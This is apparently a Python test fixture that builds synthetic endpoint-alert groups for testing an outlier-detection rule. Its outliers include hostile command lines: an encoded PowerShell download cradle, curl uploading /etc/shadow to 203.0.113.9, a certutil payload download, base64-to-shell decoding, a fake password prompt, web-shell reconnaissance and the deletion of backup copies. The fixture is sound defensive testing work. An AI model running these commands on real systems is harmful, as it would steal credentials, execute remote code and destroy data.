"""Groups that the outlier rule is tested on, written before the rule by someone who did not know it."""

import base64
import random

from tests.support.alert_groups import (
    BLOCKED,
    DETECTED,
    QUARANTINED,
    AlertGroupBuilder,
    Fields,
    Group,
    guid,
    letters,
    person,
)

DISK = "\\Device\\HarddiskVolume3"
ENCODED = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')".encode("utf-16-le"))


def groups() -> list[Group]:
    """Return all groups, the same each time."""
    return [
        _remote_help_service(),
        _updater_in_profiles(),
        _inventory_script(),
        _backup_by_service_account(),
        _miner_that_is_blocked(),
        _tool_of_administrators(),
        _installer_from_the_web(),
        _curl_under_cron(),
        _scripts_on_macs(),
        _deployment_through_cmd(),
        _agent_in_two_versions(),
        _servers_and_workstations(),
        _documents_old_and_new(),
        _printer_driver_in_a_small_group(),
        _rundll32_for_everything(),
        _scan_finds_many_files(),
        _logins_without_hash(),
        _six_alerts(),
        _three_that_differ(),
    ]


def _remote_help_service() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        path = f"{DISK}\\Program Files\\Globex Remote\\remote_helper.exe"
        return {
            "path": path,
            "cmdline": f'"C:\\Program Files\\Globex Remote\\remote_helper.exe" --service --session {{{guid(rng)}}}',
            "user_name": "SYSTEM",
        }

    group = AlertGroupBuilder("A remote help tool that runs as a service", usual).ordinary(2_400)
    for number in (1, 2, 3):
        group.outlier(
            "from Temp under powershell",
            path=f"{DISK}\\Windows\\Temp\\remote_helper.exe",
            cmdline="C:\\Windows\\Temp\\remote_helper.exe --service",
            parent="powershell.exe",
            user_name=f"svc_deploy{number}",
        )
    group.outlier(
        "from a folder that anyone may write to",
        path=f"{DISK}\\Users\\Public\\Music\\remote_helper.exe",
        cmdline="C:\\Users\\Public\\Music\\remote_helper.exe --connect 203.0.113.9:443",
    )
    return (
        group.near_miss(
            "another volume", path="\\Device\\HarddiskVolume5\\Program Files\\Globex Remote\\remote_helper.exe"
        )
        .near_miss("a drive letter", path="D:\\Program Files\\Globex Remote\\remote_helper.exe")
        .near_miss("capitals", path=f"{DISK}\\PROGRAM FILES\\GLOBEX REMOTE\\REMOTE_HELPER.EXE")
        .near_miss("8.3 names", path=f"{DISK}\\PROGRA~1\\GLOBEX~1\\remote_helper.exe")
        .near_miss("the folder for 32 bits", path=f"{DISK}\\Program Files (x86)\\Globex Remote\\remote_helper.exe")
        .near_miss("a localised folder", path=f"{DISK}\\Archivos de programa\\Globex Remote\\remote_helper.exe")
        .near_miss("the account with its domain", user_name="NT AUTHORITY\\SYSTEM")
        .near_miss("an old document without user", user_name=...)
        .near_miss("an old document without parent", parent_details=...)
        .group()
    )


def _updater_in_profiles() -> Group:
    def at(user: str, version: str, disk: str = DISK) -> str:
        return f"{disk}\\Users\\{user}\\AppData\\Local\\Globex\\Update\\{version}\\GlobexUpdate.exe"

    def usual(rng: random.Random, number: int) -> Fields:
        user, version = person(rng), f"1.3.{rng.choice((36, 37, 38))}.{rng.choice((111, 152))}"
        return {
            "path": at(user, version),
            "cmdline": f'"{at(user, version, "C:")}" /ua /installsource scheduler /sessionid "{{{guid(rng)}}}"',
            "user_name": user,
            "parent": "svchost.exe",
        }

    group = AlertGroupBuilder("An updater in the profile of each user", usual).ordinary(900)
    for user in ("b.sample", "c.doe7"):
        group.outlier(
            "started by Word, from Downloads",
            path=f"{DISK}\\Users\\{user}\\Downloads\\GlobexUpdate.exe",
            cmdline=f"C:\\Users\\{user}\\Downloads\\GlobexUpdate.exe",
            parent="winword.exe",
        )
    return (
        group.outlier("another tactic", tactic="Credential Access", technique="OS Credential Dumping")
        .near_miss("a new version", path=at("e.muster", "1.4.0.2"))
        .near_miss("a version of other length", path=at("e.muster", "1.10.136.4711"))
        .near_miss("a name with a space", path=at("Jane Doe", "1.3.36.111"), user_name="Jane Doe")
        .near_miss("a profile with its domain", path=at("f.dupont.ACME", "1.3.36.111"), user_name="f.dupont")
        .near_miss("a profile with a number", path=at("f.dupont.ACME.003", "1.3.36.111"), user_name="f.dupont")
        .near_miss("a user in capitals", path=at("G.DOE", "1.3.38.152"), user_name="G.DOE")
        .near_miss("a short profile name", path=at("ADMINI~1", "1.3.38.152"), user_name="Administrator")
        .near_miss("a profile on another disk", path=at("h.doe", "1.3.37.111", "\\Device\\HarddiskVolume7"))
        .group()
    )


def _inventory_script() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        return {
            "path": f"{DISK}\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "cmdline": f"powershell.exe -NoProfile -File C:\\ProgramData\\Initech\\inventory.ps1 -Run {number}",
            "user_name": "SYSTEM",
            "parent": "CcmExec.exe",
            "tactic": "Execution",
        }

    return (
        AlertGroupBuilder("A script for the inventory, run by the software deployment", usual)
        .ordinary(480)
        .outlier(
            "an encoded command",
            cmdline=f"powershell.exe -nop -w hidden -enc {ENCODED.decode()}",
            parent="explorer.exe",
        )
        .outlier("an encoded command under the usual parent", cmdline=f"powershell -EncodedCommand {ENCODED.decode()}")
        .outlier("by a person", user_name="a.doe", parent="explorer.exe")
        .outlier("by a service account", user_name="svc_sql")
        .near_miss(
            "the run's number is high",
            cmdline="powershell.exe -NoProfile -File C:\\ProgramData\\Initech\\inventory.ps1 -Run 904417",
        )
        .near_miss("capitals", cmdline="POWERSHELL.EXE -NoProfile -File C:\\ProgramData\\INITECH\\inventory.ps1 -Run 3")
        .near_miss(
            "two spaces", cmdline="powershell.exe  -NoProfile  -File C:\\ProgramData\\Initech\\inventory.ps1 -Run 77"
        )
        .near_miss("capitals in the parent's name", parent="CCMEXEC.EXE")
        .near_miss("capitals in the account", user_name="System")
        .group()
    )


def _backup_by_service_account() -> Group:
    store = "-to \\\\acme-bkp-"

    def usual(rng: random.Random, number: int) -> Fields:
        return {
            "path": f"{DISK}\\Program Files\\Initech\\Backup\\vss_copy.exe",
            "cmdline": f"vss_copy.exe -job {rng.randrange(10**6)} -set {guid(rng)} {store}{rng.randrange(9)}\\daily",
            "user_name": "svc_backup",
            "parent": "BackupAgent.exe",
            "tactic": "Impact",
        }

    return (
        AlertGroupBuilder("A backup by its service account", usual)
        .ordinary(260)
        .outlier("as SYSTEM", user_name="SYSTEM")
        .outlier("by a person, from a command line", user_name="i.muster", parent="cmd.exe")
        .outlier("deletes the copies", cmdline="vss_copy.exe -delete -all -quiet")
        .near_miss("the account with its domain", user_name="ACME\\svc_backup")
        .near_miss("the account as a mail address", user_name="svc_backup@acme.example.com")
        .near_miss(
            "another backup host",
            cmdline=f"vss_copy.exe -job 7 -set {guid(random.Random(7))} {store}41\\daily",
        )
        .group()
    )


def _miner_that_is_blocked() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        user = person(rng)
        return {
            "path": f"{DISK}\\Users\\{user}\\AppData\\Roaming\\hwmon\\hwmon.exe",
            "cmdline": f"C:\\Users\\{user}\\AppData\\Roaming\\hwmon\\hwmon.exe -t {rng.randrange(1, 9)}",
            "user_name": user,
            "parent": "explorer.exe",
            "disposition": BLOCKED,
        }

    unspaced = "Prevention,processwasblockedfromexecution."
    return (
        AlertGroupBuilder("A coin miner that is blocked everywhere", usual)
        .ordinary(350)
        .outlier("allowed", disposition=DETECTED)
        .outlier("allowed, and under a task", disposition=DETECTED, parent="taskeng.exe")
        .near_miss(
            "an old document without disposition",
            pattern_disposition=...,
            pattern_disposition_description=...,
            pattern_disposition_details=...,
        )
        .near_miss("the disposition as a number only", pattern_disposition_description=...)
        .near_miss("the description without spaces", pattern_disposition_description=unspaced)
        .near_miss("the disposition without details", pattern_disposition_details=...)
        .group()
    )


def _tool_of_administrators() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        return {
            "path": f"{DISK}\\Windows\\psexesvc.exe",
            "cmdline": "C:\\Windows\\psexesvc.exe",
            "user_name": "SYSTEM",
            "tactic": "Lateral Movement",
        }

    return (
        AlertGroupBuilder("A tool of administrators", usual)
        .ordinary(120)
        .outlier(
            "renamed to seem a part of Windows",
            path=f"{DISK}\\Windows\\svch0st.exe",
            cmdline="C:\\Windows\\svch0st.exe",
        )
        .outlier("renamed, in another folder", path=f"{DISK}\\PerfLogs\\lsass.exe", cmdline="C:\\PerfLogs\\lsass.exe")
        .near_miss("capitals", path=f"{DISK}\\Windows\\PSEXESVC.EXE", cmdline="C:\\WINDOWS\\PSEXESVC.EXE")
        .near_miss("in quotes", cmdline='"C:\\Windows\\psexesvc.exe"')
        .near_miss(
            "by the machine's root variable", path="\\SystemRoot\\psexesvc.exe", cmdline="%SystemRoot%\\psexesvc.exe"
        )
        .group()
    )


def _installer_from_the_web() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        user = person(rng)
        return {
            "path": f"{DISK}\\Users\\{user}\\Downloads\\toolbar_setup.exe",
            "cmdline": f'"C:\\Users\\{user}\\Downloads\\toolbar_setup.exe" ',
            "user_name": user,
            "parent": rng.choices(("chrome.exe", "msedge.exe", "firefox.exe", "explorer.exe"), (50, 30, 5, 15))[0],
            "disposition": QUARANTINED,
        }

    def named(name: str, folder: str = "Downloads") -> Fields:
        path = f"Users\\j.doe\\{folder}\\{name}"
        return {"path": f"{DISK}\\{path}", "cmdline": f'"C:\\{path}" '}

    startup = "AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
    return (
        AlertGroupBuilder("An unwanted installer from the web", usual)
        .ordinary(700)
        .outlier("in the autostart folder, under a script", **named("toolbar_setup.exe", startup), parent="wscript.exe")
        .outlier(
            "under another name on a server",
            path=f"{DISK}\\inetpub\\wwwroot\\up\\img.exe",
            parent="w3wp.exe",
            user_name="IIS APPPOOL\\web",
        )
        .near_miss("downloaded twice", **named("toolbar_setup (1).exe"))
        .near_miss("downloaded often", **named("toolbar_setup (12).exe"))
        .near_miss("copied", **named("toolbar_setup(2).exe"))
        .near_miss("on a phone's letterhead: capitals", **named("Toolbar_Setup.EXE"))
        .near_miss("a browser that is rare here", parent="brave.exe")
        .group()
    )


def _curl_under_cron() -> Group:
    source = "http://updates.example.net/run-"

    def usual(rng: random.Random, number: int) -> Fields:
        return {
            "path": "/usr/bin/curl",
            "cmdline": f"curl -s {source}{rng.randrange(10**5)}.sh -o /tmp/tmp.{letters(rng, 10)}",
            "user_name": "root",
            "parent": "crond",
            "tactic": "Command and Control",
        }

    return (
        AlertGroupBuilder("A job that fetches its list", usual)
        .ordinary(300)
        .outlier("by the web server", user_name="tomcat", parent="java", cmdline="curl -s http://203.0.113.9/x.sh")
        .outlier(
            "a copy in a hidden folder",
            path="/dev/shm/.x/curl",
            cmdline="/dev/shm/.x/curl -T /etc/shadow http://203.0.113.9/",
        )
        .near_miss("another temporary name", cmdline=f"curl -s {source}5.sh -o /tmp/tmp.aaaaaaaaaa")
        .near_miss("a longer number", cmdline=f"curl -s {source}20261124.sh -o /tmp/tmp.XyZ0192abc")
        .near_miss("an old document without parent", parent_details=...)
        .group()
    )


def _scripts_on_macs() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        user = person(rng)
        return {
            "path": "/usr/bin/osascript",
            "cmdline": f"osascript /Users/{user}/Library/Scripts/Initech/mount_share.scpt {rng.randrange(9)}",
            "user_name": user,
            "parent": "InitechHelper",
            "tactic": "Execution",
        }

    return (
        AlertGroupBuilder("A script that mounts a share on Macs", usual)
        .ordinary(220)
        .outlier(
            "asks for a password, under Word",
            parent="Microsoft Word",
            cmdline='osascript -e \'display dialog "Password" default answer "" with hidden answer\'',
        )
        .outlier(
            "decodes what it runs", cmdline="osascript -e 'do shell script \"echo aWQ7dW5hbWU= | base64 -D | sh\"'"
        )
        .near_miss(
            "a user with a dash",
            user_name="anne-marie",
            cmdline="osascript /Users/anne-marie/Library/Scripts/Initech/mount_share.scpt 4",
        )
        .near_miss(
            "a user with digits",
            user_name="x774120",
            cmdline="osascript /Users/x774120/Library/Scripts/Initech/mount_share.scpt 4",
        )
        .group()
    )


def _deployment_through_cmd() -> Group:
    def deploy(cache: str, rng: random.Random) -> str:
        return f'C:\\Windows\\System32\\cmd.exe /c "C:\\Windows\\ccmcache\\{cache}\\install.cmd" {{{guid(rng)}}}'

    def usual(rng: random.Random, number: int) -> Fields:
        return {
            "path": f"{DISK}\\Windows\\System32\\cmd.exe",
            "cmdline": deploy(letters(rng, 2).lower(), rng),
            "user_name": f"ACME-WKS-{rng.randrange(4000):04}$",
            "parent": "CcmExec.exe",
            "tactic": "Execution",
        }

    asks = 'cmd.exe /c "whoami /all & net group "Domain Admins" /domain"'
    return (
        AlertGroupBuilder("Software that is deployed through cmd.exe", usual)
        .ordinary(540)
        .outlier("a web shell", cmdline=asks, parent="w3wp.exe", user_name="IIS APPPOOL\\DefaultAppPool")
        .outlier(
            "a database that runs commands",
            cmdline='cmd.exe /c "certutil -urlcache -f http://203.0.113.9/a a.exe"',
            parent="sqlservr.exe",
            user_name="svc_sql",
        )
        .near_miss("a host of another name", user_name="GLOBEX-KIOSK-3$")
        .near_miss(
            "a longer cache folder",
            cmdline=deploy("1a7", random.Random(1)),
        )
        .group()
    )


def _agent_in_two_versions() -> Group:
    def at(version: str) -> Fields:
        path = f"Program Files\\Globex\\Agent {version}\\globex-agent-{version}.exe"
        return {
            "path": f"{DISK}\\{path}",
            "cmdline": f'"C:\\{path}" --service --log C:\\ProgramData\\Globex\\agent.log',
        }

    def usual(rng: random.Random, number: int) -> Fields:
        return {**at("7.24.19504"), "user_name": "SYSTEM"}

    group = AlertGroupBuilder("An agent while its new version rolls out", usual).ordinary(1_100)
    group.ordinary(60, **at("7.25.19607"))
    return (
        group.outlier(
            "talks to another host",
            cmdline="globex-agent-7.24.19504.exe --proxy socks5://203.0.113.9:1080 --hide",
        )
        .outlier("under the wmi host, by a person", parent="WmiPrvSE.exe", user_name="b.doe")
        .near_miss("the first host with a newer version", **at("8.0.1"))
        .near_miss("a version that was forgotten", **at("6.9.14410"))
        .group()
    )


def _servers_and_workstations() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        server = number % 2 == 0
        user = "SYSTEM" if server else person(rng)
        folder = "ProgramData\\Initech" if server else f"Users\\{user}\\AppData\\Local\\Initech"
        return {
            "path": f"{DISK}\\{folder}\\collector.exe",
            "cmdline": f"C:\\{folder}\\collector.exe {'--daemon' if server else '--tray'}",
            "user_name": user,
            "parent": "services.exe" if server else "explorer.exe",
        }

    bin_path = "$Recycle.Bin\\S-1-5-21-1004336348-1177238915-682003330-512\\collector.exe"
    return (
        AlertGroupBuilder("A collector, on servers as a service and on workstations for each user", usual)
        .ordinary(640)
        .outlier("from the recycle bin", path=f"{DISK}\\{bin_path}", cmdline=f"C:\\{bin_path}", parent="cmd.exe")
        .outlier(
            "from the recycle bin, elsewhere", path=f"{DISK}\\{bin_path}", cmdline=f"C:\\{bin_path}", parent="cmd.exe"
        )
        .near_miss("a server, a person logged in", user_name="c.muster")
        .near_miss("a workstation as on servers", parent="services.exe")
        .group()
    )


def _documents_old_and_new() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        path = "Program Files\\Initech\\Print\\spool_watch.exe"
        return {"path": f"{DISK}\\{path}", "cmdline": f"C:\\{path} /watch", "user_name": "LOCAL SERVICE"}

    group = AlertGroupBuilder("Documents of two years, the old ones with fewer fields", usual).ordinary(300)
    group.ordinary(
        12, parent_details=..., user_name=..., pattern_disposition=..., pattern_disposition_description=..., tactic=...
    )
    return (
        group.outlier("by a person under powershell", user_name="d.sample", parent="powershell.exe")
        .near_miss("without a command line", cmdline=...)
        .near_miss("without a path", filepath=...)
        .near_miss("an empty user", user_name="")
        .near_miss("a user that is null", user_name=None)
        .near_miss("an empty command line", cmdline="")
        .group()
    )


def _printer_driver_in_a_small_group() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        path = "Windows\\System32\\spool\\drivers\\x64\\3\\pdfprint.exe"
        return {
            "path": f"{DISK}\\{path}",
            "cmdline": f"C:\\{path} -job {number}",
            "user_name": "SYSTEM",
            "parent": "spoolsv.exe",
        }

    temp = "Windows\\Temp\\pdfprint.exe"
    return (
        AlertGroupBuilder("Sixty alerts of a printer driver", usual)
        .ordinary(58)
        .outlier(
            "from Temp, allowed to run by rundll32",
            path=f"{DISK}\\{temp}",
            cmdline=f"C:\\{temp}",
            parent="rundll32.exe",
        )
        .near_miss("another driver version", path=f"{DISK}\\Windows\\System32\\spool\\drivers\\x64\\4\\pdfprint.exe")
        .group()
    )


def _rundll32_for_everything() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        parents = (
            "explorer.exe",
            "svchost.exe",
            "cmd.exe",
            "powershell.exe",
            "winword.exe",
            "msiexec.exe",
            "taskhostw.exe",
        )
        libraries = (
            "shell32.dll,Control_RunDLL",
            "printui.dll,PrintUIEntry",
            "davclnt.dll,DavSetCookie",
            "zipfldr.dll,RouteTheCall",
        )
        arguments = (
            f"http://{letters(rng, 8)}.example.net/",
            f"C:\\{letters(rng, 6)}\\{letters(rng, 5)}.dll,Start",
            f"{letters(rng, 4)}.cpl",
            "",
        )
        return {
            "path": f"{DISK}\\Windows\\System32\\rundll32.exe",
            "cmdline": f"rundll32.exe {rng.choice(libraries)} {rng.choice(arguments)}",
            "user_name": rng.choice((person(rng), "SYSTEM", "LOCAL SERVICE")),
            "parent": rng.choice(parents),
            "tactic": rng.choice(("Execution", "Defense Evasion", "Persistence", "Machine Learning")),
            "disposition": rng.choice((DETECTED, BLOCKED)),
        }

    return (
        AlertGroupBuilder("A program of Windows that is used for everything", usual)
        .ordinary(420)
        .near_miss("a parent seen once among many", parent="mspaint.exe")
        .near_miss("a tactic seen once among many", tactic="Discovery")
        .near_miss("a user seen once among many", user_name="svc_reports")
        .group()
    )


def _scan_finds_many_files() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        name = rng.choice(("setup", "crack", "Invoice", "update", "Rechnung")) + letters(rng, rng.randrange(2, 9))
        return {
            "path": f"{rng.choice('CDEF')}:\\{letters(rng, 7)}\\{letters(rng, 9)}\\{name}.exe",
            "user_name": person(rng),
            "type": "ods",
            "parent_details": ...,
            "name": "MLOnDemand",
            "display_name": "MLOnDemand",
        }

    return (
        AlertGroupBuilder("A scan that finds many files of as many names", usual, hashed=False)
        .ordinary(250)
        .near_miss("a file in Temp, as one of many folders", path="C:\\Windows\\Temp\\a.exe")
        .near_miss("a file of one letter", path="F:\\x")
        .group()
    )


def _logins_without_hash() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        return {
            "user_name": person(rng),
            "product": "idp",
            "type": "idp-user-endpoint-app-info",
            "name": "IdpUnusualLogin",
            "display_name": "A user logged in from an unusual place",
            "parent_details": ...,
            "pattern_disposition": ...,
            "pattern_disposition_description": ...,
            "pattern_disposition_details": ...,
            "tactic": "Initial Access",
        }

    return (
        AlertGroupBuilder("Logins, which have neither files nor processes", usual, hashed=False)
        .ordinary(310)
        .near_miss("a service account logs in as others do", user_name="svc_scan")
        .near_miss("without a user", user_name=...)
        .near_miss("without a device", device=...)
        .group()
    )


def _six_alerts() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        path = "Program Files\\Acme\\viewer.exe"
        return {"path": f"{DISK}\\{path}", "cmdline": f"C:\\{path}", "user_name": "SYSTEM"}

    return (
        AlertGroupBuilder("Six alerts: too few to say what is usual", usual)
        .ordinary(5)
        .near_miss("the one that differs", user_name="j.sample", parent="cmd.exe")
        .group()
    )


def _three_that_differ() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        path = f"{letters(rng, 6)}\\{letters(rng, 6)}.exe"
        return {"path": f"{DISK}\\{path}", "cmdline": f"C:\\{path}", "user_name": person(rng)}

    return AlertGroupBuilder("Three alerts that have little in common", usual).ordinary(3).group()
